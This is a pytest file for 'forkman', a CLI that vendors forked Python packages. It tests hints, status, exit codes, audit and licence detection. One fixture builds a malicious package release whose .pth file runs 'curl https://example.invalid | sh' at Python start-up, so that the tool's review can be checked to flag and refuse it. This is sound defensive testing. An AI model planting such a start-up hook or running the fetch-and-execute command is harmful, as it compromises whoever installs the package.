"""The daily workflow never misleads: hints that work, status that is true, exit codes that mean.

Each test reproduces one defect a user met on a real project, through the real CLI.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from forkman.model.lock import load_lock, write_lock
from tests.conftest import REPO_ROOT, git
from tests.support.cli import Result, run, snapshot
from tests.support.index import LocalIndex, default_project_files
from tests.support.series import add_releases, release_files

SKIP = (".git", ".forkman")
HINTED = re.compile(r"`(forkman [^`]+)`")


def hinted_commands(text: str) -> list[list[str]]:
    """Every `forkman ...` command a message names, as arguments (without `forkman`)."""
    return [shlex.split(cmd)[1:] for cmd in dict.fromkeys(HINTED.findall(text))]


def follow_hints(result: Result, *, allowed: tuple[int, ...] = (0, 1)) -> list[Result]:
    """Run every command `result`'s error or hint names; each must work (no exit 2)."""
    commands = hinted_commands(result.stderr + result.stdout)
    assert commands, f"no command in {result!r}"
    followed = []
    for args in commands:
        res = run(*args)
        assert res.exit_code in allowed, (args, res)
        assert "error:" not in res.stderr, (args, res)
        followed.append(res)
    return followed


@pytest.fixture
def risky(cwd: Path, local_index: LocalIndex) -> Path:
    """demo 1.0 forked; demo 1.1 adds a .pth file that runs a shell command at start-up."""
    local_index.add_sdist("demo", "1.0", release_files("1.0"))
    evil = release_files("1.1")
    evil["demo_hook.pth"] = "import os; os.system('curl https://example.invalid | sh')\n"
    local_index.add_sdist("demo", "1.1", evil)
    assert run("init").exit_code == 0
    assert run("fork", "demo==1.0").exit_code == 0
    return cwd


# -- 1. a hint works when followed ---------------------------------------------------------


def test_the_hints_of_a_sync_refused_for_risk_work_when_followed(risky: Path) -> None:
    lock_before = (risky / "forkman.lock").read_bytes()
    res = run("sync", "demo", "--to", "1.1", "--yes")
    assert res.exit_code == 1, res  # refused for what the review found: a finding, not an error
    assert "`forkman review demo --upstream 1.0..1.1`" in res.stderr, res
    (review,) = follow_hints(res)
    assert "critical install-hook-pth" in review.stdout, review
    # the release was never imported: diff --upstream fetches it the same way
    diff = run("diff", "demo", "--upstream", "1.0..1.1")
    assert diff.exit_code == 0, diff
    assert "+++ b/demo_hook.pth" in diff.stdout and "os.system" in diff.stdout
    # reading changed nothing
    assert (risky / "forkman.lock").read_bytes() == lock_before
    # ... and the same after a dry run, as the hint says
    assert run("sync", "demo", "--to", "1.1", "--dry-run").exit_code == 0
    assert run("review", "demo", "--upstream", "1.0..1.1").exit_code == 1


def test_a_release_that_does_not_exist_is_still_an_error(risky: Path) -> None:
    res = run("review", "demo", "--upstream", "1.0..9.9")
    assert res.exit_code == 2 and "no upstream version 9.9" in res.stderr, res
    res = run("diff", "demo", "--upstream", "1.0..9.9")
    assert res.exit_code == 2 and "no upstream release 9.9" in res.stderr, res


def test_the_hints_of_everyday_refusals_work_when_followed(
    cwd: Path, local_index: LocalIndex
) -> None:
    add_releases(local_index, "1.0", "1.1")
    assert run("init").exit_code == 0
    assert run("fork", "demo==1.0").exit_code == 0
    # unrecorded edits stop a sync: record them, restore, check, as the hint says
    (cwd / "vendor/demo/a.py").write_text("mine = True\n")
    edited = run("sync", "demo", "--yes")
    assert edited.exit_code == 2 and "not recorded" in edited.stderr, edited
    follow_hints(edited)
    assert [p.name for p in (cwd / "patches/demo").glob("*.patch")] == ["0001-message.patch"]
    # asked twice
    again = run("fork", "demo==1.0")
    assert again.exit_code == 2, again
    # no one to confirm a sync (no terminal, no --yes)
    unconfirmed = run("sync", "demo")
    assert unconfirmed.exit_code == 2 and "--dry-run" in unconfirmed.stderr, unconfirmed
    # a patch that does not exist
    dropped = run("patch", "demo", "--drop", "7")
    assert dropped.exit_code == 2, dropped
    # an unknown fork
    unknown = run("review", "nope")
    assert unknown.exit_code == 2, unknown
    for res in (unconfirmed, dropped, unknown, again):  # the last one's hint unforks demo
        follow_hints(res)
    assert "demo" not in load_lock(cwd / "forkman.lock").forks


# -- 2. one busy fork does not stop the audit of the others ------------------------------


def _advisory_db(project: Path, tmp_path: Path) -> None:
    folder = tmp_path / "advisories"
    folder.mkdir()
    details = " ".join(["The parser of demo reads attacker-controlled lengths"] * 8)
    (folder / "DEMO-1.json").write_text(
        json.dumps(
            {
                "id": "DEMO-1",
                "details": details + " and overflows.",
                "affected": [
                    {"package": {"ecosystem": "PyPI", "name": name}, "versions": ["1.0"]}
                    for name in ("demo", "other")
                ],
            }
        )
    )
    db = tmp_path / "osv.sqlite"
    assert run("db", "update", "--from", str(folder), "--db", str(db)).exit_code == 0
    text = (project / "pyproject.toml").read_text()
    (project / "pyproject.toml").write_text(text + f'\n[tool.forkman.audit]\ndatabase = "{db}"\n')


def _hold(project: Path, name: str) -> subprocess.Popen[str]:
    """Another forkman process working on fork `name`."""
    held = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from pathlib import Path; from forkman.actors import _keylock; "
            f"_keylock.acquire(Path(sys.argv[1]), 'fork:{name}', wait=0, what='x'); "
            "print('held', flush=True); time.sleep(60)",
            str(project / ".forkman" / "locks"),
        ],
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
        stdout=subprocess.PIPE,
        text=True,
    )
    assert held.stdout is not None and held.stdout.readline() == "held\n"
    return held


def test_audit_reports_every_fork_it_can_when_one_is_busy(
    cwd: Path, local_index: LocalIndex, tmp_path: Path
) -> None:
    local_index.add_sdist("demo", "1.0", release_files("1.0"))
    local_index.add_sdist("other", "1.0", default_project_files("other", "1.0"))
    assert run("init").exit_code == 0
    assert run("fork", "demo==1.0").exit_code == 0
    assert run("fork", "other==1.0").exit_code == 0
    _advisory_db(cwd, tmp_path)
    (cwd / ".forkman" / "locks").mkdir(exist_ok=True)
    held = _hold(cwd, "demo")
    try:
        res = run("audit", "--format", "json")
    finally:
        held.kill()
        held.wait()
    assert res.exit_code == 2, res  # demo could not be audited: never a pass
    forks = {f["name"]: f for f in json.loads(res.stdout)["forkman"]["forks"]}
    assert forks["other"]["status"] == "vulnerable"
    assert [v["id"] for v in forks["other"]["vulnerabilities"]] == ["DEMO-1"]
    assert forks["demo"]["status"] == "unaudited"
    assert "busy" in forks["demo"]["unaudited"][0]
    assert "error: demo: fork demo is busy" in res.stderr
    # with the fork free again, both are audited (1: the advisory is open)
    assert run("audit").exit_code == 1


# -- 5. descriptions whole in JSON, cut at a word in text --------------------------------


def test_a_long_description_is_whole_in_json_and_cut_at_a_word_in_ci(
    cwd: Path, local_index: LocalIndex, tmp_path: Path
) -> None:
    local_index.add_sdist("other", "1.0", default_project_files("other", "1.0"))
    assert run("init").exit_code == 0
    assert run("fork", "other==1.0").exit_code == 0
    _advisory_db(cwd, tmp_path)
    res = run("audit", "--format", "json")
    assert res.exit_code == 1, res
    (vuln,) = json.loads(res.stdout)["forkman"]["forks"][0]["vulnerabilities"]
    assert len(vuln["summary"]) > 200 and vuln["summary"].endswith("and overflows.")
    git(cwd, "add", "-A")
    git(cwd, "commit", "-qm", "fork other")
    ci = run("ci", "--base", "HEAD")  # no fork changed since HEAD: no test stage
    line = next(x for x in ci.stdout.splitlines() if "DEMO-1" in x)
    described = line.split("DEMO-1: ", 1)[1].split(" (fixed in", 1)[0]
    assert described.endswith("…"), line
    words = set(vuln["summary"].split())
    assert all(w in words for w in described.removesuffix("…").split()), line


def test_patch_file_names_end_at_a_word(cwd: Path, local_index: LocalIndex) -> None:
    add_releases(local_index, "1.0")
    assert run("init").exit_code == 0
    assert run("fork", "demo==1.0").exit_code == 0
    (cwd / "vendor/demo/a.py").write_text("changed = True\n")
    subject = "Make the package importable when it is vendored and mark as forked"
    res = run("patch", "demo", "-m", subject)
    assert res.exit_code == 0, res
    (patch,) = (cwd / "patches/demo").glob("*.patch")
    stem = patch.stem.split("-", 1)[1]
    assert subject.lower().replace(" ", "-").startswith(stem + "-"), patch.name
    assert len(stem) <= 50


# -- 3, 10. status: true, short, said once -------------------------------------------------


def test_a_rejected_command_is_said_once_and_is_not_the_forks_state(
    cwd: Path, local_index: LocalIndex
) -> None:
    add_releases(local_index, "1.0")
    assert run("init").exit_code == 0
    res = run("fork", "demo==1.0")
    assert res.exit_code == 0, res
    assert not re.search(r"^demo: (idle|failed)", res.stderr, re.M), res
    again = run("fork", "demo==1.0")
    assert again.exit_code == 2, again
    assert again.stderr.count("already") == 1, again  # said once, by the command
    status = run("status")
    row = next(x for x in status.stdout.splitlines() if x.startswith("demo "))
    assert row.split()[4] == "clean" and "failed" not in row, status
    # a real failure is shown, briefly; JSON has all of it
    failed = run("sync", "demo", "--to", "9.9", "--yes")
    assert failed.exit_code == 2, failed
    assert failed.stderr.count("error:") == 1, failed
    status = run("status")
    assert max(len(x) for x in status.stdout.splitlines()) <= 120, status
    assert "failed:" in status.stdout
    (data,) = json.loads(run("status", "--format", "json").stdout)
    assert data["state"].startswith("clean, failed: ") and data["error"], data
    assert data["error"].startswith(data["state"].split("failed: ", 1)[1].rstrip("…"))


def _with_test_section(project: Path, name: str, section: dict[str, object]) -> None:
    lock = load_lock(project / "forkman.lock")
    entry = lock.forks[name]
    write_lock(project / "forkman.lock", lock.with_entry(entry.with_section("test", section)))


@pytest.mark.parametrize(
    ("section", "shown"),
    [
        ({"status": "passed", "passed": 3, "tier": "namespaces", "version": "1.0"}, "3 passed"),
        ({"status": "error", "message": "exited with status 4", "tier": "namespaces"}, "error: "),
        ({"status": "timeout", "message": "timed out after 60s", "version": "1.0"}, "timed out"),
        ({"status": "no-tests", "message": "the sdist ships no tests"}, "no tests"),
        ({"status": "failed", "failed": 2, "passed": 1, "version": "1.0"}, "FAILED: 1 passed"),
        ({"status": "passed", "passed": 3, "version": "0.9"}, "stale: passed on 0.9"),
        (
            {"status": "passed", "passed": 3, "version": "1.0", "tree": "sha256:" + "1" * 64},
            "stale: passed on another tree of 1.0",
        ),
        (
            {"status": "passed", "passed": 3, "when": "2000-01-01T00:00:00Z"},
            "stale: passed before the last fetch",
        ),
    ],
)
def test_status_tells_errors_timeouts_no_tests_and_stale_results_apart(
    cwd: Path, local_index: LocalIndex, section: dict[str, object], shown: str
) -> None:
    add_releases(local_index, "1.0")
    assert run("init").exit_code == 0
    assert run("fork", "demo==1.0").exit_code == 0
    if "tree" not in section and section.get("version") == "1.0":
        section["tree"] = load_lock(cwd / "forkman.lock").forks["demo"].vendored_tree
    _with_test_section(cwd, "demo", section)
    (row,) = json.loads(run("status", "--format", "json").stdout)
    assert row["tests"].startswith(shown), row
    if section["status"] != "no-tests":
        assert "no tests" not in row["tests"], row


# -- 4. no tests is not a failure -------------------------------------------------------------


@pytest.mark.sandbox
def test_a_fork_without_tests_exits_0_with_a_note(cwd: Path, local_index: LocalIndex) -> None:
    from forkman.sandbox import Tier, detect

    if detect().best_tier is not Tier.NAMESPACES:
        pytest.skip("this host offers no user namespaces")
    files = default_project_files("plain", "1.0")
    del files["tests/test_basic.py"]
    local_index.add_sdist("plain", "1.0", files)
    assert run("init").exit_code == 0
    assert run("fork", "plain==1.0").exit_code == 0
    res = run("test", "plain")
    assert res.exit_code == 0, res
    assert "plain: no-tests: " in res.stdout and "ships no tests" in res.stdout, res


# -- 7. the layout a fork got, and why --------------------------------------------------------


def test_fork_says_which_layout_it_used_and_why(cwd: Path, local_index: LocalIndex) -> None:
    add_releases(local_index, "1.0")
    local_index.add_sdist("other", "1.0", default_project_files("other", "1.0"))
    local_index.add_wheel("other", "1.0")
    assert run("init").exit_code == 0
    res = run("fork", "demo==1.0")
    assert res.exit_code == 0, res
    assert "layout: project (the default)" in res.stdout, res
    text = (cwd / "pyproject.toml").read_text()
    (cwd / "pyproject.toml").write_text(
        text + '\n[tool.forkman.vendoring]\nnamespace = "consumer._vendor"\n'
        'destination = "src/consumer/_vendor"\n'
    )
    res = run("fork", "other==1.0", "--wheel")
    assert res.exit_code == 0, res
    assert "layout: namespace (the default while [tool.forkman.vendoring] namespace" in (
        res.stdout
    ), res
    assert "--layout project" in res.stdout
    assert run("unfork", "other").exit_code == 0
    res = run("fork", "other==1.0", "--layout", "project")
    assert res.exit_code == 0, res
    assert "layout: project (asked for with --layout)" in res.stdout, res


# -- 8. reading writes nothing ------------------------------------------------------------------


def test_review_writes_nothing_unless_asked(risky: Path) -> None:
    before = snapshot(risky, skip=SKIP)
    res = run("review", "demo")
    assert res.exit_code == 0, res
    assert snapshot(risky, skip=SKIP) == before
    assert run("review", "demo", "--upstream", "1.0..1.1", "--format", "json").exit_code == 1
    assert snapshot(risky, skip=SKIP) == before
    assert run("review", "demo", "--record").exit_code == 0
    assert "review" in load_lock(risky / "forkman.lock").forks["demo"].sections


# -- 9. unfork A B C --------------------------------------------------------------------------


def test_unfork_takes_several_names(cwd: Path, local_index: LocalIndex) -> None:
    for name in ("one", "two", "three"):
        local_index.add_sdist(name, "1.0", default_project_files(name, "1.0"))
    assert run("init").exit_code == 0
    for name in ("one", "two", "three"):
        assert run("fork", f"{name}==1.0").exit_code == 0
    before = snapshot(cwd, skip=SKIP)
    res = run("unfork", "one", "nope", "two")
    assert res.exit_code == 2 and "nope" in res.stderr, res
    assert snapshot(cwd, skip=SKIP) == before  # an unknown name removes nothing
    res = run("unfork", "one", "two")
    assert res.exit_code == 0, res
    assert "removed one" in res.stdout and "removed two" in res.stdout
    assert set(load_lock(cwd / "forkman.lock").forks) == {"three"}
    assert not (cwd / "vendor/one").exists() and not (cwd / "vendor/two").exists()


# -- 6. a dual license is read from the classifiers and the files together ------------------

APACHE_TEXT = "                                 Apache License\n   Version 2.0, January 2004\n"
BSD2_TEXT = (
    "Redistribution and use in source and binary forms, with or without modification, are "
    "permitted provided that the following conditions are met:\n"
)
DUAL = (
    "This software is made available under the terms of *either* of the licenses\n"
    "found in LICENSE.APACHE or LICENSE.BSD. Contributions to this software is made\n"
    "under the terms of *both* these licenses.\n"
)


def test_a_dual_licensed_fork_is_apache_or_bsd(cwd: Path, local_index: LocalIndex) -> None:
    files = default_project_files("dual", "24.1")
    files["LICENSE"] = DUAL
    files["LICENSE.APACHE"] = APACHE_TEXT
    files["LICENSE.BSD"] = "Copyright (c) Donald Stufft and individual contributors.\n" + BSD2_TEXT
    files["PKG-INFO"] = (
        "Metadata-Version: 2.1\nName: dual\nVersion: 24.1\n"
        "Classifier: License :: OSI Approved :: Apache Software License\n"
        "Classifier: License :: OSI Approved :: BSD License\n"
    )
    local_index.add_sdist("dual", "24.1", files)
    assert run("init").exit_code == 0
    assert run("fork", "dual==24.1").exit_code == 0
    res = run("licenses", "--json")
    assert res.exit_code == 0, res
    (row,) = json.loads(res.stdout)
    assert row["expression"] == "Apache-2.0 OR BSD-2-Clause", row
    assert row["origin"] == "file-text"


# -- 11. declared forks are not "no forks yet" ----------------------------------------------


def test_status_shows_declared_forks_until_they_are_forked(
    cwd: Path, local_index: LocalIndex
) -> None:
    add_releases(local_index, "1.0")
    assert run("init").exit_code == 0
    text = (cwd / "pyproject.toml").read_text()
    (cwd / "pyproject.toml").write_text(
        text + '\n[tool.forkman.forks.demo]\nrequirement = "demo==1.0"\n'
    )
    res = run("status")
    assert res.exit_code == 0, res
    assert "no forks yet" not in res.stdout, res
    row = next(x for x in res.stdout.splitlines() if x.startswith("demo "))
    assert "declared, not forked" in row and "demo==1.0" in row, res
    (data,) = json.loads(run("status", "--format", "json").stdout)
    assert data["state"] == "declared, not forked" and "forkman sync --all" in data["hint"]
    follow_hints(res)
    (data,) = json.loads(run("status", "--format", "json").stdout)
    assert data["state"] == "clean" and data["version"] == "1.0", data
